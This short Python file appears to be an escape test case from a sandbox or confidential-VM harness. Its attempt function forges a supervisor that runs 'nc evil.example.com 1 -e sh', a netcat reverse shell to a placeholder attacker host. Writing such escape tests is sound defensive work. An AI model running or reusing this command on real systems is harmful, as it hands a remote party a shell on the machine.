"""A whole CVM whose supervisor, of the right image, starts a shell that phones home."""

from harness.escapes import OWN_SUPERVISOR

RULES = OWN_SUPERVISOR


def attempt(user):
    return user.forge_supervisor(command=["sh", "-c", "nc evil.example.com 1 -e sh"])
